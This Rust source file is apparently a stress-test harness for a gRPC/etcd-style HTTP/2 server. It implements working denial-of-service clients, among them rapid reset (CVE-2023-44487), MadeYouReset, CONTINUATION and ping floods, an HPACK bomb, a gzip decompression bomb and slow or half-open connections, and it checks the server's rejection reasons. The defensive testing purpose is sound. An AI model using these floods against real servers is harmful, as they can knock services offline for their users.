//! What hostile and broken clients send. One thread each, about 20 MB/s at most, so that what is measured is the server
//! and not who shares its cores.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use crate::client::Client;
use crate::wire::{Frame, FrameKind, PREFACE, Request, compress, flag, frame_message, header_frames};

/// A kind of client.
pub struct Attack {
    /// What reports call it.
    pub name: &'static str,
    /// What the server's log must say of it; none if its deadline is longer than the short form of the check.
    pub reason: Option<&'static str>,
    /// Attacks until the flag is set.
    pub run: fn(SocketAddr, &AtomicBool) -> io::Result<()>,
}

/// All kinds.
pub const KINDS: &[Attack] = &[
    Attack { name: "rapid reset", reason: Some("too_many_resets"), run: rapid_reset },
    Attack { name: "made you reset", reason: Some("too_many_resets"), run: made_you_reset },
    Attack { name: "continuation", reason: Some("too_many_continuations"), run: continuation },
    Attack { name: "settings", reason: Some("too_many_settings"), run: settings },
    Attack { name: "ping", reason: Some("too_many_pings"), run: ping },
    Attack { name: "empty data", reason: Some("too_many_idle_frames"), run: empty_data },
    Attack { name: "window updates", reason: Some("too_many_window_updates"), run: window_updates },
    Attack { name: "hpack bomb", reason: Some("too_many_resets"), run: hpack_bomb },
    Attack { name: "oversized", reason: None, run: oversized },
    Attack { name: "zero window", reason: None, run: zero_window },
    Attack { name: "deaf", reason: None, run: deaf },
    Attack { name: "slow body", reason: None, run: slow_body },
    Attack { name: "half open", reason: None, run: half_open },
    Attack { name: "other protocols", reason: Some("unknown protocol"), run: other_protocols },
];

/// Key of a value that is long to answer.
const LONG: &str = "long";
const LONG_LEN: usize = 60_000;
/// Calls that one connection may have open; the ledger allows twice as many.
const CALLS: u32 = 16_000;
/// Bytes written in one go, and the pause behind them.
const CHUNK: usize = 64 << 10;
const PAUSE: Duration = Duration::from_millis(2);
/// How long a write may take before the server is taken not to listen any more.
const WRITE_MAX: Duration = Duration::from_millis(500);

/// Writes what some of the attacks ask for.
pub fn prepare(address: SocketAddr) -> io::Result<()> {
    let answer = Client::open(address)?.put(LONG.as_bytes(), &vec![b'v'; LONG_LEN])?;
    answer.map(drop).map_err(|status| io::Error::other(format!("{status:?}")))
}

/// A connection of an attacker.
struct Socket<'a> {
    stream: TcpStream,
    over: &'a AtomicBool,
    /// What comes is read and thrown away, unless it is the attack not to.
    listens: bool,
}

impl<'a> Socket<'a> {
    fn connect(address: SocketAddr, over: &'a AtomicBool) -> io::Result<Socket<'a>> {
        let stream = TcpStream::connect(address)?;
        stream.set_nodelay(true)?;
        stream.set_write_timeout(Some(WRITE_MAX))?;
        stream.set_read_timeout(Some(Duration::from_millis(1)))?;
        Ok(Socket { stream, over, listens: true })
    }

    /// A connection that has said hello, with this initial window for its streams.
    fn hello(address: SocketAddr, over: &'a AtomicBool, window: u32) -> io::Result<Socket<'a>> {
        let mut socket = Socket::connect(address, over)?;
        let setting = [&4u16.to_be_bytes()[..], &window.to_be_bytes()].concat();
        socket.send(&[PREFACE.to_vec(), frame(FrameKind::Settings, 0, 0, setting)].concat());
        Ok(socket)
    }

    /// Sends, at the attackers' pace; false when the connection is over.
    fn send(&mut self, bytes: &[u8]) -> bool {
        for chunk in bytes.chunks(CHUNK) {
            if self.over.load(Ordering::Relaxed) || self.stream.write_all(chunk).is_err() || !self.listen() {
                return false;
            }
            if bytes.len() >= CHUNK {
                thread::sleep(PAUSE);
            }
        }
        true
    }

    /// Reads what is there; false at the end.
    fn listen(&mut self) -> bool {
        let mut buffer = [0; CHUNK];
        while self.listens {
            match self.stream.read(&mut buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => return matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
            }
        }
        true
    }
}

/// Connects again and again, and sends what `bytes` gives until the server has had enough.
fn flood(
    address: SocketAddr,
    over: &AtomicBool,
    mut bytes: impl FnMut(u32) -> io::Result<Vec<u8>>,
) -> io::Result<()> {
    while !over.load(Ordering::Relaxed) {
        let mut socket = Socket::hello(address, over, 65_535)?;
        for round in 0.. {
            if !socket.send(&bytes(round)?) {
                break;
            }
        }
    }
    Ok(())
}

/// The frames of a thousand streams of each round.
fn streams(round: u32, mut each: impl FnMut(u32) -> io::Result<Vec<u8>>) -> io::Result<Vec<u8>> {
    let mut out = Vec::new();
    for n in 0..1000 {
        out.extend(each(2 * (1000 * round + n) + 1)?);
    }
    Ok(out)
}

fn frame(kind: FrameKind, flags: u8, stream: u32, payload: impl Into<Vec<u8>>) -> Vec<u8> {
    let mut out = Vec::new();
    Frame::new(kind, flags, stream, payload).write(&mut out).expect("a vector takes every byte");
    out
}

/// The fields of a call, without its end.
fn head(path: &str, stream: u32) -> io::Result<Vec<u8>> {
    header_frames(stream, &Request::grpc(path, b""), 0)
}

/// A whole get of the long value.
fn long_get(stream: u32) -> io::Result<Vec<u8>> {
    let request = Request::grpc(RANGE, &[&[0x0a, LONG.len() as u8], LONG.as_bytes()].concat());
    let body = frame(FrameKind::Data, flag::END_STREAM, stream, request.body.clone());
    Ok([header_frames(stream, &request, 0)?, body].concat())
}

const RANGE: &str = "/etcdserverpb.KV/Range";
const PUT: &str = "/etcdserverpb.KV/Put";
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

/// CVE-2023-44487.
fn rapid_reset(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    flood(address, over, |round| {
        streams(round, |id| Ok([long_get(id)?, frame(FrameKind::RstStream, 0, id, CANCEL)].concat()))
    })
}

/// CVE-2025-8671: errors that the server must answer with a reset.
fn made_you_reset(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    flood(address, over, |round| {
        streams(round, |id| Ok([long_get(id)?, frame(FrameKind::WindowUpdate, 0, id, [0; 4])].concat()))
    })
}

/// The CVE-2024-27316 class.
fn continuation(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    flood(address, over, |round| {
        let start = if round == 0 { frame(FrameKind::Headers, 0, 1, []) } else { Vec::new() };
        Ok([start, frame(FrameKind::Continuation, 0, 1, [0x82; 100]).repeat(500)].concat())
    })
}

fn settings(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let pairs = [0, 4, 0, 0, 0, 1, 0, 4, 0, 0, 0xff, 0xff].repeat(100);
    flood(address, over, |_| Ok(frame(FrameKind::Settings, 0, 0, pairs.clone()).repeat(50)))
}

fn ping(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    flood(address, over, |_| Ok(frame(FrameKind::Ping, 0, 0, *b"flooding").repeat(4000)))
}

fn empty_data(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    flood(address, over, |round| {
        let start = if round == 0 { head(PUT, 1)? } else { Vec::new() };
        Ok([start, frame(FrameKind::Data, 0, 1, []).repeat(7000)].concat())
    })
}

fn window_updates(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    flood(address, over, |_| Ok(frame(FrameKind::WindowUpdate, 0, 0, 1u32.to_be_bytes()).repeat(5000)))
}

/// One entry of 4,000 bytes in the table, and then a thousand references to it for each stream.
fn hpack_bomb(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let mut entry = vec![0x40, 1, b'a', 0x7f, 0xa1, 0x1e];
    entry.resize(entry.len() + 4000, b'x');
    flood(address, over, |round| {
        let bomb = |id| frame(FrameKind::Headers, flag::END_HEADERS | flag::END_STREAM, id, [0xbe; 1000]);
        let start = frame(FrameKind::Headers, flag::END_HEADERS | flag::END_STREAM, 1, entry.clone());
        let bombs = streams(round, |id| Ok(bomb(id + 2)))?;
        Ok(if round == 0 { [start, bombs].concat() } else { bombs })
    })
}

/// A message that announces 4 GiB for each stream, and first of all gzip that grows beyond every limit.
fn oversized(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let bomb = frame_message(&compress(&vec![0; 8 << 20]), true);
    let mut packed = header_frames(1, &Request::grpc(PUT, b"").with("grpc-encoding", "gzip"), 0)?;
    for part in bomb.chunks(16_384) {
        packed.extend(frame(FrameKind::Data, 0, 1, part));
    }
    flood(address, over, |round| {
        let prefix = [0, 0xff, 0xff, 0xff, 0xff, 1];
        let large =
            streams(
                round,
                |id| Ok([head(PUT, id + 2)?, frame(FrameKind::Data, 0, id + 2, prefix)].concat()),
            )?;
        Ok(if round == 0 { [packed.clone(), large].concat() } else { large })
    })
}

/// Asks for long answers, and never opens a window for them.
fn zero_window(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let mut socket = Socket::hello(address, over, 0)?;
    for n in 0..CALLS {
        if !socket.send(&long_get(2 * n + 1)?) {
            break;
        }
    }
    wait(over);
    Ok(())
}

/// Asks for long answers, and never reads from the socket.
fn deaf(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let mut socket = Socket::hello(address, over, (1 << 31) - 1)?;
    socket.listens = false;
    socket.send(&frame(FrameKind::WindowUpdate, 0, 0, (1u32 << 30).to_be_bytes()));
    for n in 0..CALLS {
        if !socket.send(&long_get(2 * n + 1)?) {
            break;
        }
    }
    wait(over);
    Ok(())
}

/// Begins puts of a megabyte by the thousand and ends none.
fn slow_body(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let part = [&[0, 0, 0x10, 0, 0][..], &[b'v'; 9000]].concat();
    flood(address, over, |round| {
        streams(round, |id| Ok([head(PUT, id)?, frame(FrameKind::Data, 0, id, part.clone())].concat()))
    })
}

/// Connections that say nothing, or a letter now and then.
fn half_open(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let mut sockets = Vec::new();
    for n in 0..200 {
        let mut socket = Socket::connect(address, over)?;
        let hello = [&b""[..], b"P", b"G", b"GET /health HTTP/1.1\r\nHost: x\r\nX: ", PREFACE][n % 5];
        socket.send(hello);
        sockets.push(socket);
    }
    while !over.load(Ordering::Relaxed) {
        // Those that were recognised as HTTP/1 go on with their head, slowly.
        sockets.iter_mut().skip(3).step_by(5).for_each(|socket| _ = socket.send(b"x"));
        thread::sleep(Duration::from_millis(200));
    }
    Ok(())
}

/// TLS on the plain port, and nonsense.
fn other_protocols(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    while !over.load(Ordering::Relaxed) {
        for hello in [&b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"[..], b"nonsense\r\n\r\n", &[0; 5000]] {
            Socket::connect(address, over)?.send(hello);
        }
        thread::sleep(PAUSE);
    }
    Ok(())
}

fn wait(over: &AtomicBool) {
    while !over.load(Ordering::Relaxed) {
        thread::sleep(Duration::from_millis(10));
    }
}
